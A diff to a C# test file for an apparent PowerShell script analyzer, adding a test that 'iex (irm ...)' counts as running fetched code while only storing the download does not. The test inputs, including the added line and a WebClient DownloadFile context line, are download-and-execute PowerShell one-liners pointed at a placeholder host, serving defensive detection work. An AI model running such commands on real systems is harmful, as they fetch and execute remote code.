@@ -116,6 +116,11 @@ public sealed class PowerShellTests
     [InlineData("try{$c=New-Object Net.WebClient;$c.Headers.Add('a','b');$c.DownloadFile('http://a.example/x','y')}catch{}")]
     public void Every_way_to_fetch_is_recorded(string source) => Run(source).Actions.Where(action => action.Kind == ScriptActionKind.Fetch).Select(action => action.Target).ShouldBe(["http://a.example/x"]);
 
+    [Theory]
+    [InlineData("iex (irm http://a.example/x)", true)]
+    [InlineData("$t = irm http://a.example/x; $t", false)]
+    public void To_evaluate_what_was_fetched_is_to_run_it(string source, bool runs) => Run(source).Actions.Any(action => action.Kind == ScriptActionKind.Run).ShouldBe(runs);
+
     [Fact]
     public void A_loop_over_addresses_that_ends_with_the_first_success_tells_all()
     {
